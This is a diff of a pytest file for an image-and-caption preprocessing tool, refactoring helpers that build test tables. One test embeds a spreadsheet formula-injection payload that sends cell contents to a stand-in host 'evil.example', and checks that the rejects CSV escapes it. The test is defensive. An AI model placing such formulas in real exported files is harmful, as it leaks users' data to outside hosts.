@@ -12,6 +12,7 @@ import subprocess
 import sys
 from datetime import datetime
 from pathlib import Path
+from typing import Sequence
 
 import numpy as np
 import pytest
@@ -21,7 +22,7 @@ from data_preprocessing import preprocess
 from data_preprocessing.prepare import CLEANING_VERSION, clean_text, sentiment
 from data_preprocessing.records import SPLITS, RecordReader, iter_records
 from data_preprocessing.splits import assign_random
-from tests.tiny_posts import write_images, write_table
+from tests.tiny_posts import ABSENT, POSTS_HEADER, write_images, write_posts, write_table
 
 REPO_ROOT = Path(__file__).resolve().parents[1]
 CAPTIONS = ["Sunset at the beach \U0001F60D #travel", "WORST. DAY. EVER. &amp; it rained", "",
@@ -29,12 +30,11 @@ CAPTIONS = ["Sunset at the beach \U0001F60D #travel", "WORST. DAY. EVER. &amp; i
             "so good!!!"]
 
 
-def write_posts(root: Path, n: int = 24, size=(48, 36)) -> Path:
-    """A clean posts.csv with n rows and images under root/images; returns the CSV path."""
-    names = write_images(root / "images", n, size)
-    return write_table(root / "posts.csv", ["image_path", "description", "engagement", "extra"],
-                       [[f"images/{name}", f"{CAPTIONS[i % len(CAPTIONS)]} {i}" if i % 7 else "", i * 10, "x"]
-                        for i, name in enumerate(names)])
+def clean_posts(root: Path, n: int = 24, size=(48, 36), more: Sequence[list] = ()) -> Path:
+    """A clean posts.csv with n rows (then the rows ``more``) and images under root/images;
+    returns the CSV path."""
+    return write_posts(root, [*([i, f"{CAPTIONS[i % len(CAPTIONS)]} {i}" if i % 7 else "", i * 10, "x"]
+                                for i in range(n)), *more], (*POSTS_HEADER, "extra"), size=size)
 
 
 def run(argv: list[str]) -> dict:
@@ -66,7 +66,7 @@ def read_rejects(out: Path) -> dict[int, str]:
 def good_run(tmp_path_factory):
     """One clean table preprocessed with 1 and with 2 workers."""
     root = tmp_path_factory.mktemp("good")
-    posts = write_posts(root, n=24)
+    posts = clean_posts(root, n=24)
     metas = {w: run(["--input", str(posts), "--out", str(root / f"out{w}"), "--workers", str(w),
                      "--resize-shortest-edge", "24", "--val-frac", "0.2", "--test-frac", "0.2", "--seed", "3"])
              for w in (1, 2)}
@@ -194,11 +194,7 @@ def test_broken_table_is_fully_accounted_for(tmp_path):
         (good[4], "ok", " 12 ", None),
         (good[5], "ok", "0.5", None),
     ]
-    posts = tmp_path / "posts.csv"
-    with open(posts, "w", newline="") as fh:
-        w = csv.writer(fh)
-        w.writerow(["image_path", "description", "engagement"])
-        w.writerows(r[:3] for r in rows)
+    posts = write_table(tmp_path / "posts.csv", POSTS_HEADER, [r[:3] for r in rows])
     out = tmp_path / "out"
     meta = run(["--input", str(posts), "--out", str(out), "--workers", "2", "--max-pixels", "2000",
                 "--max-reject-frac", "0.9", "--resize-shortest-edge", "0", "--val-frac", "0", "--test-frac", "0"])
@@ -239,29 +235,28 @@ def test_missing_input(tmp_path):
 
 
 def test_missing_column_lists_available_columns(tmp_path):
-    posts = write_posts(tmp_path, n=3)
+    posts = clean_posts(tmp_path, n=3)
     msg = _error(["--input", str(posts), "--out", str(tmp_path / "o"), "--label-col", "likes"])
     assert "'likes'" in msg and "--label-col" in msg
     assert "'image_path', 'description', 'engagement', 'extra'" in msg
 
 
 def test_empty_table_and_unknown_type(tmp_path):
-    empty = tmp_path / "posts.csv"
-    empty.write_text("image_path,description,engagement\n")
+    empty = write_table(tmp_path / "posts.csv", POSTS_HEADER, [])
     assert "no data rows" in _error(["--input", str(empty), "--out", str(tmp_path / "o")])
     nothing = tmp_path / "nothing.csv"
-    nothing.write_text("")
+    nothing.write_text("")  # zero bytes: write_table always writes a header
     assert "not found" in _error(["--input", str(nothing), "--out", str(tmp_path / "o")])  # no columns at all
     xlsx = tmp_path / "posts.xlsx"
     xlsx.write_bytes(b"PK")
     assert "unsupported input type" in _error(["--input", str(xlsx), "--out", str(tmp_path / "o")])
     bad_jsonl = tmp_path / "posts.jsonl"
-    bad_jsonl.write_text('{"image_path": "a.jpg"}\n{not json\n')
+    bad_jsonl.write_text('{"image_path": "a.jpg"}\n{not json\n')  # raw: write_table writes only valid JSON
     assert "line 2" in _error(["--input", str(bad_jsonl), "--out", str(tmp_path / "o")])
 
 
 def test_too_many_rejects_fails_but_writes_rejects_and_no_meta(tmp_path):
-    posts = write_posts(tmp_path, n=10)
+    posts = clean_posts(tmp_path, n=10)
     out = tmp_path / "out"
     run(["--input", str(posts), "--out", str(out), "--workers", "1"])  # a good run first
     assert (out / "meta.json").exists()
@@ -291,19 +286,16 @@ def test_bad_option_values_are_usage_errors(tmp_path):
 
 
 def test_jsonl_with_absolute_paths_matches_csv(tmp_path):
-    posts = write_posts(tmp_path / "a", n=8)
+    posts = clean_posts(tmp_path / "a", n=8)
     with open(posts, newline="", encoding="utf-8") as fh:
         table = list(csv.DictReader(fh))
     # The JSONL table lives elsewhere, so only absolute image paths can work.
-    jsonl = tmp_path / "b" / "posts.jsonl"
-    jsonl.parent.mkdir()
-    with open(jsonl, "w", encoding="utf-8") as fh:
-        for r in table:
-            obj = {"image_path": str((posts.parent / r["image_path"]).resolve()),
-                   "description": r["description"] or None,  # null caption == empty caption
-                   "engagement": int(r["engagement"])}  # a JSON number, not a string
-            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
-        fh.write("\n")  # a trailing blank line is not a row
+    jsonl = write_table(tmp_path / "b" / "posts.jsonl", POSTS_HEADER,
+                        [[str((posts.parent / r["image_path"]).resolve()),
+                          r["description"] or None,  # null caption == empty caption
+                          int(r["engagement"])] for r in table])  # a JSON number, not a string
+    with open(jsonl, "a", encoding="utf-8") as fh:
+        fh.write("\n")  # a trailing blank line is not a row (appended: write_table writes none)
     m_csv = run(["--input", str(posts), "--out", str(tmp_path / "o_csv"), "--workers", "1"])
     m_json = run(["--input", str(jsonl), "--out", str(tmp_path / "o_json"), "--workers", "1"])
     assert m_json["source"]["format"] == "jsonl" and m_json["counts"] == m_csv["counts"]
@@ -313,13 +305,8 @@ def test_jsonl_with_absolute_paths_matches_csv(tmp_path):
 
 
 def test_jsonl_label_types(tmp_path):
-    write_images(tmp_path / "images", 4)
-    jsonl = tmp_path / "posts.ndjson"
-    rows = [{"image_path": "images/000.jpg", "description": "a", "engagement": None},
-            {"image_path": "images/001.jpg", "description": "b", "engagement": True},
-            {"image_path": "images/002.jpg", "description": "c", "engagement": "12"},
-            {"image_path": "images/003.jpg", "description": "d"}]  # key absent
-    jsonl.write_text("\n".join(json.dumps(r) for r in rows))
+    jsonl = write_posts(tmp_path, [[0, "a", None], [1, "b", True], [2, "c", "12"],
+                                   [3, "d", ABSENT]], name="posts.ndjson")  # null, true, a string, key absent
     out = tmp_path / "out"
     meta = run(["--input", str(jsonl), "--out", str(out), "--max-reject-frac", "1", "--val-frac", "0",
                 "--test-frac", "0"])
@@ -328,7 +315,7 @@ def test_jsonl_label_types(tmp_path):
 
 
 def test_pre_resize_shrinks_records(tmp_path):
-    posts = write_posts(tmp_path, n=6, size=(640, 480))
+    posts = clean_posts(tmp_path, n=6, size=(640, 480))
     m_full = run(["--input", str(posts), "--out", str(tmp_path / "full"), "--resize-shortest-edge", "0"])
     m_small = run(["--input", str(posts), "--out", str(tmp_path / "small")])  # default: CLIP's 224
     size = {k: sum((tmp_path / k / f"{s}.pkl").stat().st_size for s in SPLITS) for k in ("full", "small")}
@@ -346,7 +333,7 @@ def test_policy_from_clip_processor_dir(tmp_path):
 
     proc_dir = tmp_path / "proc"
     CLIPImageProcessor(size={"shortest_edge": 30}).save_pretrained(proc_dir)
-    posts = write_posts(tmp_path, n=4, size=(64, 48))
+    posts = clean_posts(tmp_path, n=4, size=(64, 48))
     meta = run(["--input", str(posts), "--out", str(tmp_path / "out"), "--clip-processor", str(proc_dir),
                 "--val-frac", "0.25", "--test-frac", "0.25"])
     assert meta["image_size_policy"]["shortest_edge"] == 30
@@ -362,7 +349,7 @@ def test_policy_from_clip_processor_dir(tmp_path):
 
 
 def test_runs_as_script_and_as_module(tmp_path):
-    posts = write_posts(tmp_path, n=6)
+    posts = clean_posts(tmp_path, n=6)
     env = {**os.environ, "PYTHONPATH": ""}
     # As a file path, from an unrelated working directory.
     script = subprocess.run([sys.executable, str(REPO_ROOT / "data_preprocessing" / "preprocess.py"),
@@ -392,11 +379,9 @@ def test_runs_as_script_and_as_module(tmp_path):
 
 def test_semicolon_cp1252_table_gives_the_records_of_its_utf8_copy(tmp_path, capsys):
     """Excel's "CSV" in a European locale on Windows: semicolons, cp1252."""
-    names = write_images(tmp_path / "images", 8)
-    header = ["image_path", "description", "engagement"]
-    rows = [[f"images/{n}", f"Café crème n°{i} à 5 € — «{i}»; très bien", i] for i, n in enumerate(names)]
-    excel = write_table(tmp_path / "excel.csv", header, rows, sep=";", encoding="cp1252")
-    plain = write_table(tmp_path / "plain.csv", header, rows)
+    rows = [[i, f"Café crème n°{i} à 5 € — «{i}»; très bien", i] for i in range(8)]
+    excel = write_posts(tmp_path, rows, name="excel.csv", sep=";", encoding="cp1252")
+    plain = write_posts(tmp_path, rows, name="plain.csv")
     meta = run(["--input", str(excel), "--out", str(tmp_path / "excel"), "--workers", "1"])
     log = capsys.readouterr().err  # main() configures logging to stderr
     assert "WARNING data_preprocessing.table: excel.csv is not UTF-8" in log and "reading it as cp1252" in log
@@ -410,11 +395,8 @@ def test_semicolon_cp1252_table_gives_the_records_of_its_utf8_copy(tmp_path, cap
 
 
 def test_an_undecodable_table_is_one_line_and_no_traceback(tmp_path):
-    names = write_images(tmp_path / "images", 2)
-    posts = tmp_path / "posts.csv"
-    # 0x81 is undefined in cp1252 too: neither auto encoding reads it.
-    posts.write_bytes(f"image_path,description,engagement\nimages/{names[0]},ok,1\n".encode()
-                      + f"images/{names[1]},bad \x81 byte,2\n".encode("latin-1"))
+    # 0x81 is undefined in cp1252 too: neither auto encoding reads it (latin-1 writes U+0081 as it).
+    posts = write_posts(tmp_path, [[0, "ok", 1], [1, "bad \x81 byte", 2]], encoding="latin-1")
     offset = posts.read_bytes().index(b"\x81")
     proc = subprocess.run([sys.executable, "-m", "data_preprocessing.preprocess", "--input", str(posts),
                            "--out", str(tmp_path / "o")], cwd=REPO_ROOT, capture_output=True, text=True, timeout=120)
@@ -434,7 +416,7 @@ def test_missing_columns_are_named_at_once_with_the_delimiter(tmp_path):
 
 
 def test_a_cell_over_the_cap_names_its_row(tmp_path):
-    posts = write_posts(tmp_path, n=6)
+    posts = clean_posts(tmp_path, n=6)
     rows = list(csv.reader(posts.read_text(encoding="utf-8").splitlines()))
     rows[4][1] = "long " * 400  # data row 3: 2,000 characters
     write_table(posts, rows[0], rows[1:])
@@ -444,10 +426,8 @@ def test_a_cell_over_the_cap_names_its_row(tmp_path):
 
 
 def test_rejects_csv_escapes_formula_cells(tmp_path):
-    posts = write_posts(tmp_path, n=6)
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    with open(posts, "a", newline="", encoding="utf-8") as fh:
-        csv.writer(fh).writerow([evil, "click me", "1", "x"])
+    posts = clean_posts(tmp_path, n=6, more=[[evil, "click me", "1", "x"]])
     out = tmp_path / "out"
     run(["--input", str(posts), "--out", str(out), "--workers", "1", "--max-reject-frac", "0.5"])
     with open(out / "rejects.csv", newline="") as fh:
@@ -457,13 +437,13 @@ def test_rejects_csv_escapes_formula_cells(tmp_path):
 
 
 def test_image_columns_fall_back(tmp_path):
-    names = write_images(tmp_path / "images", 4)
-    rows = [[f"images/{names[0]}", "", "cover of a video", 1],
-            ["", f"images/{names[1]}", "a photo", 2],
-            [f"images/{names[2]}", "images/nope.jpg", "thumbnail wins", 3],
+    rows = [[0, "", "cover of a video", 1],
+            ["", 1, "a photo", 2],
+            [2, "images/nope.jpg", "thumbnail wins", 3],
             ["", "ftp://cdn.example.com/p/0.jpg", "an ftp link", 4],  # rejected without any request
             ["", "", "nothing at all", 5]]
-    posts = write_table(tmp_path / "posts.csv", ["thumbnail_url", "media_url", "description", "engagement"], rows)
+    posts = write_posts(tmp_path, rows, ["thumbnail_url", "media_url", "description", "engagement"],
+                        image_cols=("thumbnail_url", "media_url"))
     out = tmp_path / "out"
     meta = run(["--input", str(posts), "--out", str(out), "--image-col", "thumbnail_url,media_url",
                 "--max-reject-frac", "0.5", "--workers", "1", "--val-frac", "0", "--test-frac", "0",
@@ -540,12 +520,10 @@ def test_url_images_are_downloaded_once_and_a_rerun_needs_no_server(tmp_path):
                              "/error.html": static(HTML_PAGE, "text/html"),
                              "/old/11.jpg": redirect(f"/p/new/{names[11]}"),
                              f"/p/new/{names[11]}": static(jpeg[names[11]], "image/jpeg")})
-    local = write_images(tmp_path / "images", 3, size=(40, 30))
-    cells = ([server.url(f"/p/{n}") for n in names[:11]] + [f"images/{n}" for n in local]
+    cells = ([server.url(f"/p/{n}") for n in names[:11]] + [0, 1, 2]  # 3 local images
              + [server.url("/gone.jpg"), server.url("/error.html"), "ftp://127.0.0.1/p/000.jpg",
                 server.url("/old/11.jpg")])
-    posts = write_table(tmp_path / "posts.csv", ["image_path", "description", "engagement"],
-                        [[c, f"post {i} #url", 3 * i] for i, c in enumerate(cells)])
+    posts = write_posts(tmp_path, [[c, f"post {i} #url", 3 * i] for i, c in enumerate(cells)], size=(40, 30))
     argv = ["--input", str(posts), "--image-cache", str(tmp_path / "cache"), "--workers", "1",
             "--val-frac", "0.2", "--test-frac", "0.2", "--max-reject-frac", "0.3"]
     try:
@@ -585,7 +563,7 @@ def test_url_images_are_downloaded_once_and_a_rerun_needs_no_server(tmp_path):
 
 
 def test_an_empty_split_is_refused_before_any_image_is_loaded(tmp_path):
-    posts = write_posts(tmp_path, n=4)
+    posts = clean_posts(tmp_path, n=4)
     (tmp_path / "images" / "000.jpg").unlink()  # loading images would reject it: never reached
     out = tmp_path / "out"
     msg = _error(["--input", str(posts), "--out", str(out), "--workers", "1"])  # 10% of 4 rows: none
@@ -596,7 +574,7 @@ def test_an_empty_split_is_refused_before_any_image_is_loaded(tmp_path):
 
 
 def test_a_split_emptied_by_rejects_is_refused(tmp_path):
-    posts = write_posts(tmp_path, n=20)
+    posts = clean_posts(tmp_path, n=20)
     val_rows = np.flatnonzero(assign_random(20, 0.1, 0.1, seed=0) == SPLITS.index("val")).tolist()
     for row in val_rows:
         (tmp_path / "images" / f"{row:03d}.jpg").unlink()
@@ -608,7 +586,7 @@ def test_a_split_emptied_by_rejects_is_refused(tmp_path):
 
 
 def test_small_val_and_test_splits_are_warned_about(tmp_path, capsys):
-    posts = write_posts(tmp_path, n=20)
+    posts = clean_posts(tmp_path, n=20)
     run(["--input", str(posts), "--out", str(tmp_path / "out"), "--workers", "1"])
     log = capsys.readouterr().err
     assert "the val split holds only 2 posts (< 50): the prediction interval is calibrated on val" in log
@@ -625,7 +603,7 @@ EXPORT_HEADER = ["post_id", "account_id", "posted_at", "image_path", "descriptio
 N_EXPORT = 40
 
 
-def export_rows(names: list[str]) -> list[list]:
+def export_rows() -> list[list]:
     """N_EXPORT posts, post i posted 2i + 0.5 days before AS_OF (so posts 0-3 are younger than
     a week), in a shuffled row order; then one posted after AS_OF, one without a time and
     one whose time is not a timestamp."""
@@ -636,19 +614,18 @@ def export_rows(names: list[str]) -> list[list]:
     for i in np.random.default_rng(0).permutation(N_EXPORT).tolist():
         likes = int(np.exp(2 + (i % 7) / 2))
         when = (as_of - timedelta(days=2 * i + 0.5)).strftime("%Y-%m-%dT%H:%M:%S+0000")
-        rows.append([f"p{i}", f"acc{i % 12}", when, f"images/{names[i]}", f"post {i} #tag", likes, i % 5,
+        rows.append([f"p{i}", f"acc{i % 12}", when, i, f"post {i} #tag", likes, i % 5,
                      10 * (likes + i % 5), 1000 + 37 * i])
     extra = [("2025-07-01T09:00:00Z", "after the export"), ("", "no time"), ("yesterday", "not a time")]
     for j, (when, caption) in enumerate(extra):
-        rows.append([f"x{j}", "acc0", when, f"images/{names[N_EXPORT + j]}", caption, 5, 1, 60, 1000])
+        rows.append([f"x{j}", "acc0", when, N_EXPORT + j, caption, 5, 1, 60, 1000])
     return rows
 
 
 @pytest.fixture(scope="module")
 def export(tmp_path_factory):
     root = tmp_path_factory.mktemp("export")
-    names = write_images(root / "images", N_EXPORT + 3)
-    return write_table(root / "posts.csv", EXPORT_HEADER, export_rows(names))
+    return write_posts(root, export_rows(), EXPORT_HEADER)
 
 
 @pytest.fixture(scope="module")
